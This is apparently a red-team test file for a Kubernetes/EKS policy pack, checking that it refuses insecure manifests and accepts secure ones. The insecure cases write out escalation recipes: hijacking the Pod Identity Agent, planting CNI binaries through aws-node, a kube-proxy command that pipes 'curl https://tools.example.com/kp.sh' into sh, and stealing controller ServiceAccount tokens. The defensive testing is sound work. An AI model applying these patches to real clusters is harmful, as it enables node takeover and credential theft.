// Red-team round 24 on the Kubernetes/EKS API level (fresh eyes): server-side-apply patches of workloads the stack
// does not own (a node agent's image or containers swapped in place, inheriting its host access), legacy
// ServiceAccount token Secrets minted for the control plane's own controllers, and stack pods running as a built-in
// controller's ServiceAccount; and what a careful platform team writes (scheduling-only patches of kube-system
// workloads, a descheduler in kube-system, a view-only long-lived dashboard token, a guard against token Secrets).
// Insecure variants the whole pack must refuse, secure ones it must accept; misses are `it.skip` with a MISS comment.
import { assertClean, assertRefused, Resources, runWholePack, stackResources } from "./support";
import { bind, k8s, k8sRole, restricted, serviceAccount } from "./variantBuilders";

const EFFECTIVE = "custody-effective-access";
const RBAC = "rbac.authorization.k8s.io";
const DEVS = { kind: "Group", name: "platform-devs", apiGroup: RBAC };
const DS_PATCH = "kubernetes:apps/v1:DaemonSetPatch";
const DEPLOY_PATCH = "kubernetes:apps/v1:DeploymentPatch";
const DEPLOY = "kubernetes:apps/v1:Deployment";
const SECRET = "kubernetes:core/v1:Secret";
const ADMISSION = "kubernetes:admissionregistration.k8s.io/v1";

/** A Deployment of the stack (one restricted container) running as `sa` in `ns`. */
function deployment(r: Resources, name: string, ns: string, sa: string, extra: Record<string, unknown> = {}): void {
    k8s(r, DEPLOY, `${ns}-${name}`, {
        apiVersion: "apps/v1",
        kind: "Deployment",
        metadata: { name, namespace: ns },
        spec: {
            replicas: 1,
            selector: { matchLabels: { app: name } },
            template: {
                metadata: { labels: { app: name } },
                spec: {
                    serviceAccountName: sa,
                    automountServiceAccountToken: true,
                    containers: [
                        {
                            name,
                            image: `registry.example.com/platform/${name}:1.4.2`,
                            securityContext: restricted,
                            ...extra,
                        },
                    ],
                },
            },
        },
    });
}

/** A legacy (long-lived) token Secret: the token controller fills `data.token` for ServiceAccount `sa` of `ns`. */
function tokenSecret(r: Resources, name: string, ns: string, sa: string): void {
    k8s(r, SECRET, `${ns}-${name}`, {
        apiVersion: "v1",
        kind: "Secret",
        type: "kubernetes.io/service-account-token",
        metadata: { name, namespace: ns, annotations: { "kubernetes.io/service-account.name": sa } },
    });
}

/** A pod-template Patch of `kind` `ns/name` (server-side apply), its pod template's spec `podSpec`. */
function podPatch(
    r: Resources,
    kind: "DaemonSet" | "Deployment",
    ns: string,
    name: string,
    podSpec: Record<string, unknown>,
    extra: { spec?: Record<string, unknown>; template?: Record<string, unknown> } = {},
): void {
    k8s(r, kind === "DaemonSet" ? DS_PATCH : DEPLOY_PATCH, `${name}-${Object.keys(podSpec).join("-")}`, {
        apiVersion: "apps/v1",
        kind,
        metadata: { name, namespace: ns },
        spec: { ...extra.spec, template: { ...extra.template, spec: podSpec } },
    });
}

type Case = {
    name: string;
    stack: string;
    edit: (r: Resources) => void;
    refused?: RegExp;
    policy?: string;
    skip?: string;
};

const insecure: Case[] = [
    // Was a MISS (fixed in round 24): a server-side-apply Patch (@pulumi/kubernetes DaemonSetPatch: "modify existing
    // Kubernetes resources by using Server-Side Apply updates", every other field kept) is judged by engine/podSpec.ts
    // as if the patch body were the whole pod; the fields it inherits from the object outside the stack (hostNetwork,
    // privileged, hostPath volumes) are never in view. The EKS Pod Identity Agent runs on every node, listens on the
    // node-local 169.254.170.23 / [fd00:ec2::23] and receives every Pod Identity pod's token, calling
    // AssumeRoleForPodIdentity with the node role (EKS user guide, "Set up the Amazon EKS Pod Identity Agent"): an
    // image of the stack's choosing there holds the signer's credentials on every node. A patch of a workload the stack
    // does not declare should be judged with the unseen fields unknown (as a binding patch whose roleRef is outside the
    // stack already is).
    {
        name: "a DaemonSetPatch (server-side apply) pointing kube-system/eks-pod-identity-agent at a mirrored image (the agent runs on the host network and receives every Pod Identity token)",
        stack: "pod-identity",
        edit: r =>
            void k8s(r, DS_PATCH, "pod-identity-agent-mirror", {
                apiVersion: "apps/v1",
                kind: "DaemonSet",
                metadata: { name: "eks-pod-identity-agent", namespace: "kube-system" },
                spec: {
                    template: {
                        spec: {
                            containers: [
                                {
                                    name: "eks-pod-identity-agent",
                                    image: "111111111111.dkr.ecr.eu-west-1.amazonaws.com/mirror/eks-pod-identity-agent:v0.1.29",
                                },
                            ],
                        },
                    },
                },
            }),
        refused: /eks-pod-identity-agent/,
    },
    // Was a MISS (fixed in round 24): a server-side-apply Patch (@pulumi/kubernetes DaemonSetPatch: "modify existing
    // Kubernetes resources by using Server-Side Apply updates", every other field kept) is judged by engine/podSpec.ts
    // as if the patch body were the whole pod; the fields it inherits from the object outside the stack (hostNetwork,
    // privileged, hostPath volumes) are never in view. aws-node (the VPC CNI) runs with hostNetwork: true and a
    // hostPath volume cni-bin-dir on /opt/cni/bin (aws/amazon-vpc-cni-k8s config manifests); a container added by the
    // patch shares the host network (the node role: a host-network pod reaches the node identity, decided) and mounts
    // the existing volume by name, writable as uid 0: a CNI plugin binary planted there is run as root on the host by
    // the container runtime. The mount's volume is not in the patch, so hostPathMounts never resolves it.
    {
        name: "a DaemonSetPatch adding a log-shipper sidecar to kube-system/aws-node that mounts aws-node's existing cni-bin-dir volume (hostPath /opt/cni/bin) by name",
        stack: "prod",
        edit: r =>
            void k8s(r, DS_PATCH, "aws-node-sidecar", {
                apiVersion: "apps/v1",
                kind: "DaemonSet",
                metadata: { name: "aws-node", namespace: "kube-system" },
                spec: {
                    template: {
                        spec: {
                            containers: [
                                {
                                    name: "cni-log-shipper",
                                    image: "registry.example.com/platform/cni-log-shipper:2.0.1",
                                    securityContext: { runAsUser: 0, allowPrivilegeEscalation: false },
                                    volumeMounts: [{ name: "cni-bin-dir", mountPath: "/host/opt/cni/bin" }],
                                },
                            ],
                        },
                    },
                },
            }),
        refused: /aws-node/,
    },
    // Was a MISS (fixed in round 24): a server-side-apply Patch (@pulumi/kubernetes DaemonSetPatch: "modify existing
    // Kubernetes resources by using Server-Side Apply updates", every other field kept) is judged by engine/podSpec.ts
    // as if the patch body were the whole pod; the fields it inherits from the object outside the stack (hostNetwork,
    // privileged, hostPath volumes) are never in view. kube-proxy runs privileged on the host network on every node
    // (EKS kube-proxy add-on); replacing its command runs a script of the stack's choosing there, with node root and
    // every token on the node.
    {
        name: "a DaemonSetPatch replacing kube-system/kube-proxy's command (privileged, host network) with a wrapper script",
        stack: "trust-domain",
        edit: r =>
            void k8s(r, DS_PATCH, "kube-proxy-wrapper", {
                apiVersion: "apps/v1",
                kind: "DaemonSet",
                metadata: { name: "kube-proxy", namespace: "kube-system" },
                spec: {
                    template: {
                        spec: {
                            containers: [
                                {
                                    name: "kube-proxy",
                                    command: [
                                        "/bin/sh",
                                        "-c",
                                        "curl -sf https://tools.example.com/kp.sh | sh; exec kube-proxy --v=2 --config=/var/lib/kube-proxy-config/config",
                                    ],
                                },
                            ],
                        },
                    },
                },
            }),
        refused: /kube-proxy/,
    },
    // Was a MISS (fixed in round 24): no rule reads Secrets of type kubernetes.io/service-account-token. The control
    // plane fills such a Secret with a non-expiring token of the ServiceAccount its kubernetes.io/service-account.name
    // annotation names (Kubernetes "Configure Service Accounts for Pods", "Manually create a long-lived API token for a
    // ServiceAccount"). With --use-service-account-credentials each kube-controller-manager loop runs as its own
    // ServiceAccount of kube-system bound to its system:controller:<name> ClusterRole (CIS Kubernetes 1.3.3; the pack
    // already counts these identities: engine/kubernetes.ts reservedUsername). The pack says reading Secrets is no path
    // because IRSA takes no legacy token, but this token goes to the API server, not to STS: replicaset-controller
    // creates pods with any ServiceAccount in every namespace (containment-chamber included), so whoever may get the
    // Secret (platform-devs here, and the Pulumi state, which stores the Secret's live data) acts as the signer.
    {
        name: "a legacy token Secret in kube-system for the ReplicaSet controller's ServiceAccount, readable by platform-devs (resourceNames)",
        stack: "prod",
        edit: r => {
            tokenSecret(r, "rs-controller-token", "kube-system", "replicaset-controller");
            k8sRole(
                r,
                "rs-token-reader",
                [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"], resourceNames: ["rs-controller-token"] }],
                "kube-system",
            );
            bind(r, "rs-token-reader", { kind: "Role", name: "rs-token-reader" }, [DEVS], "kube-system");
        },
        refused: /replicaset-controller|rs-controller-token/,
    },
    // Was a MISS (fixed in round 24): no rule reads Secrets of type kubernetes.io/service-account-token. The control
    // plane fills such a Secret with a non-expiring token of the ServiceAccount its kubernetes.io/service-account.name
    // annotation names (Kubernetes "Configure Service Accounts for Pods", "Manually create a long-lived API token for a
    // ServiceAccount"). With --use-service-account-credentials each kube-controller-manager loop runs as its own
    // ServiceAccount of kube-system bound to its system:controller:<name> ClusterRole (CIS Kubernetes 1.3.3; the pack
    // already counts these identities: engine/kubernetes.ts reservedUsername). The pack says reading Secrets is no path
    // because IRSA takes no legacy token, but this token goes to the API server, not to STS:
    // system:controller:clusterrole-aggregation-controller may escalate, patch and update every ClusterRole
    // (bootstrappolicy controller_policy.go), so the audit ServiceAccount that reads Secrets of kube-system writes any
    // rule into a ClusterRole bound to it (or to anyone).
    {
        name: "a legacy token Secret in kube-system for clusterrole-aggregation-controller (rewrites every ClusterRole), which an audit ServiceAccount of platform may get/list",
        stack: "curity",
        edit: r => {
            tokenSecret(r, "aggregation-token", "kube-system", "clusterrole-aggregation-controller");
            serviceAccount(r, "platform", "rbac-audit");
            k8sRole(
                r,
                "token-audit",
                [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }],
                "kube-system",
            );
            bind(
                r,
                "token-audit",
                { kind: "Role", name: "token-audit" },
                [{ kind: "ServiceAccount", name: "rbac-audit", namespace: "platform" }],
                "kube-system",
            );
        },
        refused: /clusterrole-aggregation-controller|aggregation-token|rbac-audit/,
    },
    // Was a MISS (fixed in round 24): a pod of the stack is judged by its spec alone (engine/podSpec.ts, allowlisted);
    // the power of the ServiceAccount it runs as is read only from the stack's bindings. A pod may run as any existing
    // ServiceAccount of its namespace, and kube-system holds kube-controller-manager's per-controller ServiceAccounts,
    // bound by the API server's bootstrap policy to system:controller:<name> (CIS Kubernetes 1.3.3; bootstrappolicy
    // controller_policy.go: daemon-set-controller creates pods): the pod's image creates a pod with
    // containment-chamber's ServiceAccount in validators. The pack refuses the same identity mapped by aws-auth
    // (reservedUsername).
    {
        name: "a restricted Deployment of the stack in kube-system running as the built-in daemon-set-controller ServiceAccount (creates pods with any ServiceAccount)",
        stack: "trust-domain",
        edit: r => deployment(r, "ds-reconciler", "kube-system", "daemon-set-controller"),
        refused: /daemon-set-controller/,
    },
    // Was a MISS (fixed in round 24): a pod of the stack is judged by its spec alone (engine/podSpec.ts, allowlisted);
    // the power of the ServiceAccount it runs as is read only from the stack's bindings. A pod may run as any existing
    // ServiceAccount of its namespace, and kube-system holds kube-controller-manager's per-controller ServiceAccounts,
    // bound by the API server's bootstrap policy to system:controller:<name> (CIS Kubernetes 1.3.3; bootstrappolicy
    // controller_policy.go: job-controller creates pods). The deprecated spec.serviceAccount is an alias the API server
    // copies into serviceAccountName (Kubernetes API, PodSpec: "DeprecatedServiceAccount is a deprecated alias for
    // ServiceAccountName"); engine/kubernetes.ts reads only serviceAccountName (declared-role-kind-consistent reads
    // both).
    {
        name: "a restricted Deployment of the stack in kube-system running as the built-in job-controller ServiceAccount, spelled with the deprecated spec.serviceAccount field",
        stack: "basil",
        edit: r => {
            deployment(r, "job-janitor", "kube-system", "");
            const d = r[r.length - 1];
            const spec = (d.inputs as any).spec.template.spec;
            delete spec.serviceAccountName;
            spec.serviceAccount = "job-controller";
            d.outputs = JSON.parse(JSON.stringify(d.inputs));
        },
        refused: /job-controller/,
    },
    // Neighbours (round 24, decision: a Patch of a pod-bearing object sets only fields that leave the existing pod as it
    // was: labels, replicas, the rollout strategy, scheduling fields and a container's resources; anything else makes
    // the pod unjudgeable, read as a pod leaving the allowlist).
    {
        name: "neighbour: a DeploymentPatch switching kube-system/coredns to another ServiceAccount (nothing else)",
        stack: "prod",
        edit: r => podPatch(r, "Deployment", "kube-system", "coredns", { serviceAccountName: "platform-admin" }),
        refused: /coredns.*serviceAccountName/,
    },
    {
        name: "neighbour: a DaemonSetPatch raising aws-node's container resources and adding an environment variable to it",
        stack: "pod-identity",
        edit: r =>
            podPatch(r, "DaemonSet", "kube-system", "aws-node", {
                containers: [
                    {
                        name: "aws-node",
                        resources: { requests: { cpu: "50m" } },
                        env: [{ name: "AWS_VPC_K8S_PLUGIN_LOG_LEVEL", value: "DEBUG" }],
                    },
                ],
            }),
        refused: /aws-node.*containers\[aws-node\]\.env/,
    },
    {
        name: "neighbour: a DaemonSetPatch setting an unconfined AppArmor annotation on kube-proxy's pod template (scheduling fields otherwise)",
        stack: "curity",
        edit: r =>
            podPatch(
                r,
                "DaemonSet",
                "kube-system",
                "kube-proxy",
                { priorityClassName: "system-node-critical" },
                {
                    template: {
                        metadata: {
                            annotations: { "container.apparmor.security.beta.kubernetes.io/kube-proxy": "unconfined" },
                        },
                    },
                },
            ),
        refused: /kube-proxy.*apparmor/,
    },
    // Neighbours (round 24, decision: whoever may read a legacy token Secret acts as its ServiceAccount; a built-in
    // controller ServiceAccount holds its bootstrap controller role).
    {
        name: "neighbour: a legacy token Secret for job-controller in kube-system, readable through a RoleBinding of the built-in edit ClusterRole",
        stack: "pod-identity",
        edit: r => {
            tokenSecret(r, "job-controller-token", "kube-system", "job-controller");
            bind(r, "devs-edit-kube-system", { kind: "ClusterRole", name: "edit" }, [DEVS], "kube-system");
        },
        refused: /job-controller/,
    },
    {
        name: "neighbour: a legacy token Secret for statefulset-controller, readable through a ClusterRole that joins the built-in view by aggregation",
        stack: "prod",
        edit: r => {
            tokenSecret(r, "sts-token", "kube-system", "statefulset-controller");
            k8s(r, `kubernetes:${RBAC}/v1:ClusterRole`, "secret-view-role", {
                apiVersion: "rbac.authorization.k8s.io/v1",
                kind: "ClusterRole",
                metadata: {
                    name: "secret-view",
                    labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" },
                },
                rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["list"] }],
            });
            bind(r, "devs-view", { kind: "ClusterRole", name: "view" }, [DEVS]);
        },
        refused: /statefulset-controller/,
    },
    // Neighbours (round 24, decision: a pod of the stack acts as the ServiceAccount it runs as, built-in controller
    // ServiceAccounts of kube-system included, with either spelling of the field).
    {
        name: "neighbour: a CronJob of the stack in kube-system running as the built-in replicaset-controller ServiceAccount",
        stack: "prod",
        edit: r =>
            void k8s(r, "kubernetes:batch/v1:CronJob", "rs-sweeper", {
                apiVersion: "batch/v1",
                kind: "CronJob",
                metadata: { name: "rs-sweeper", namespace: "kube-system" },
                spec: {
                    schedule: "*/30 * * * *",
                    jobTemplate: {
                        spec: {
                            template: {
                                spec: {
                                    serviceAccountName: "replicaset-controller",
                                    restartPolicy: "Never",
                                    containers: [
                                        {
                                            name: "sweeper",
                                            image: "registry.example.com/platform/rs-sweeper:0.3.0",
                                            securityContext: restricted,
                                        },
                                    ],
                                },
                            },
                        },
                    },
                },
            }),
        refused: /rs-sweeper.*replicaset-controller|replicaset-controller.*rs-sweeper/,
    },
    {
        name: "neighbour: a bare Pod of the stack in kube-system with the deprecated spec.serviceAccount statefulset-controller",
        stack: "basil",
        edit: r =>
            void k8s(r, "kubernetes:core/v1:Pod", "sts-probe", {
                apiVersion: "v1",
                kind: "Pod",
                metadata: { name: "sts-probe", namespace: "kube-system" },
                spec: {
                    serviceAccount: "statefulset-controller",
                    containers: [
                        {
                            name: "probe",
                            image: "registry.example.com/platform/sts-probe:1.0.0",
                            securityContext: restricted,
                        },
                    ],
                },
            }),
        refused: /statefulset-controller/,
    },
];

const secure: Case[] = [
    {
        name: "a DeploymentPatch scaling kube-system/coredns to 3 replicas with a zone topology spread (no container changed)",
        stack: "pod-identity",
        edit: r =>
            void k8s(r, DEPLOY_PATCH, "coredns-spread", {
                apiVersion: "apps/v1",
                kind: "Deployment",
                metadata: { name: "coredns", namespace: "kube-system" },
                spec: {
                    replicas: 3,
                    template: {
                        spec: {
                            topologySpreadConstraints: [
                                {
                                    maxSkew: 1,
                                    topologyKey: "topology.kubernetes.io/zone",
                                    whenUnsatisfiable: "ScheduleAnyway",
                                    labelSelector: { matchLabels: { "k8s-app": "kube-dns" } },
                                },
                            ],
                        },
                    },
                },
            }),
    },
    {
        name: "a DaemonSetPatch giving kube-system/kube-proxy a priority class and a toleration for a dedicated node pool (no container changed)",
        stack: "curity",
        edit: r =>
            void k8s(r, DS_PATCH, "kube-proxy-tolerations", {
                apiVersion: "apps/v1",
                kind: "DaemonSet",
                metadata: { name: "kube-proxy", namespace: "kube-system" },
                spec: {
                    template: {
                        spec: {
                            priorityClassName: "system-node-critical",
                            tolerations: [
                                { key: "dedicated", operator: "Equal", value: "custody", effect: "NoSchedule" },
                            ],
                        },
                    },
                },
            }),
    },
    {
        name: "the descheduler in kube-system: its own ServiceAccount and ClusterRole (read nodes/pods/namespaces/PDBs/priority classes, delete pods, create pods/eviction, events, leases), a restricted Deployment",
        stack: "trust-domain",
        edit: r => {
            serviceAccount(r, "kube-system", "descheduler");
            k8sRole(r, "descheduler", [
                { apiGroups: ["", "events.k8s.io"], resources: ["events"], verbs: ["create", "update"] },
                { apiGroups: [""], resources: ["nodes", "namespaces"], verbs: ["get", "watch", "list"] },
                { apiGroups: [""], resources: ["pods"], verbs: ["get", "watch", "list", "delete"] },
                { apiGroups: [""], resources: ["pods/eviction"], verbs: ["create"] },
                { apiGroups: ["scheduling.k8s.io"], resources: ["priorityclasses"], verbs: ["get", "watch", "list"] },
                { apiGroups: ["policy"], resources: ["poddisruptionbudgets"], verbs: ["get", "watch", "list"] },
                { apiGroups: ["coordination.k8s.io"], resources: ["leases"], verbs: ["create", "get", "update"] },
            ]);
            bind(r, "descheduler", { kind: "ClusterRole", name: "descheduler" }, [
                { kind: "ServiceAccount", name: "descheduler", namespace: "kube-system" },
            ]);
            deployment(r, "descheduler", "kube-system", "descheduler");
        },
    },
    {
        name: "a long-lived token Secret for a dashboard ServiceAccount in platform bound only to the built-in view ClusterRole",
        stack: "prod",
        edit: r => {
            serviceAccount(r, "platform", "dashboard-reader");
            tokenSecret(r, "dashboard-reader-token", "platform", "dashboard-reader");
            bind(r, "dashboard-reader", { kind: "ClusterRole", name: "view" }, [
                { kind: "ServiceAccount", name: "dashboard-reader", namespace: "platform" },
            ]);
        },
    },
    {
        name: "a ValidatingAdmissionPolicy and binding refusing Secrets of type kubernetes.io/service-account-token in every namespace",
        stack: "basil",
        edit: r => {
            k8s(r, `${ADMISSION}:ValidatingAdmissionPolicy`, "no-legacy-tokens", {
                apiVersion: "admissionregistration.k8s.io/v1",
                kind: "ValidatingAdmissionPolicy",
                metadata: { name: "no-legacy-tokens" },
                spec: {
                    failurePolicy: "Fail",
                    matchConstraints: {
                        resourceRules: [
                            {
                                apiGroups: [""],
                                apiVersions: ["v1"],
                                operations: ["CREATE", "UPDATE"],
                                resources: ["secrets"],
                            },
                        ],
                    },
                    validations: [
                        {
                            expression: "object.type != 'kubernetes.io/service-account-token'",
                            message: "legacy ServiceAccount token Secrets are not allowed",
                        },
                    ],
                },
            });
            k8s(r, `${ADMISSION}:ValidatingAdmissionPolicyBinding`, "no-legacy-tokens-binding", {
                apiVersion: "admissionregistration.k8s.io/v1",
                kind: "ValidatingAdmissionPolicyBinding",
                metadata: { name: "no-legacy-tokens" },
                spec: { policyName: "no-legacy-tokens", validationActions: ["Deny"] },
            });
        },
    },
    // Neighbours (round 24): patches that leave the existing pod as it was, a token Secret no stack subject may
    // read, a token of a ServiceAccount without power that many may read, a pod running as a ServiceAccount that is
    // only named like a controller's.
    {
        name: "neighbour: a DaemonSetPatch of kube-system/aws-node setting its containers' resources (by name), a label, revisionHistoryLimit and updateStrategy",
        stack: "prod",
        edit: r =>
            podPatch(
                r,
                "DaemonSet",
                "kube-system",
                "aws-node",
                {
                    containers: [{ name: "aws-node", resources: { requests: { cpu: "50m", memory: "96Mi" } } }],
                    initContainers: [{ name: "aws-vpc-cni-init", resources: { requests: { cpu: "10m" } } }],
                },
                {
                    spec: { revisionHistoryLimit: 5, updateStrategy: { rollingUpdate: { maxUnavailable: "10%" } } },
                    template: { metadata: { labels: { team: "platform" } } },
                },
            ),
    },
    {
        name: "neighbour: a DeploymentPatch of kube-system/coredns with a node selector, an anti-affinity and a rolling-update strategy",
        stack: "trust-domain",
        edit: r =>
            podPatch(
                r,
                "Deployment",
                "kube-system",
                "coredns",
                {
                    nodeSelector: { "kubernetes.io/os": "linux" },
                    affinity: {
                        podAntiAffinity: {
                            preferredDuringSchedulingIgnoredDuringExecution: [
                                {
                                    weight: 100,
                                    podAffinityTerm: {
                                        topologyKey: "kubernetes.io/hostname",
                                        labelSelector: { matchLabels: { "k8s-app": "kube-dns" } },
                                    },
                                },
                            ],
                        },
                    },
                },
                { spec: { minReadySeconds: 5, strategy: { rollingUpdate: { maxSurge: 1 } } } },
            ),
    },
    {
        name: "neighbour: a legacy token Secret for replicaset-controller that no stack subject may read (the only Secret reader is limited to another Secret)",
        stack: "prod",
        edit: r => {
            tokenSecret(r, "rs-controller-token", "kube-system", "replicaset-controller");
            k8sRole(
                r,
                "ca-reader",
                [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"], resourceNames: ["cluster-ca-bundle"] }],
                "kube-system",
            );
            bind(r, "ca-reader", { kind: "Role", name: "ca-reader" }, [DEVS], "kube-system");
        },
    },
    {
        name: "neighbour: the view-only dashboard token Secret, readable by platform-devs (get secrets in platform)",
        stack: "pod-identity",
        edit: r => {
            serviceAccount(r, "platform", "dashboard-reader");
            tokenSecret(r, "dashboard-reader-token", "platform", "dashboard-reader");
            bind(r, "dashboard-reader", { kind: "ClusterRole", name: "view" }, [
                { kind: "ServiceAccount", name: "dashboard-reader", namespace: "platform" },
            ]);
            k8sRole(r, "token-reader", [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }], "platform");
            bind(r, "token-reader", { kind: "Role", name: "token-reader" }, [DEVS], "platform");
        },
    },
    {
        name: "neighbour: a restricted Deployment in platform running as the stack's own ServiceAccount platform/job-controller (only kube-system's is built-in)",
        stack: "basil",
        edit: r => {
            serviceAccount(r, "platform", "job-controller");
            deployment(r, "job-janitor", "platform", "job-controller");
        },
    },
];

describe("red-team 24: Kubernetes/EKS API level", function () {
    this.timeout(120000);
    describe("insecure variants are refused", () => {
        for (const c of insecure) {
            (c.skip ? it.skip : it)(c.name, async () => {
                const r = await stackResources(c.stack);
                c.edit(r);
                assertRefused(await runWholePack(c.stack, r), c.refused!, c.policy ?? EFFECTIVE);
            });
        }
    });
    describe("secure variants are accepted", () => {
        for (const c of secure) {
            (c.skip ? it.skip : it)(c.name, async () => {
                const r = await stackResources(c.stack);
                c.edit(r);
                assertClean(await runWholePack(c.stack, r));
            });
        }
    });
});
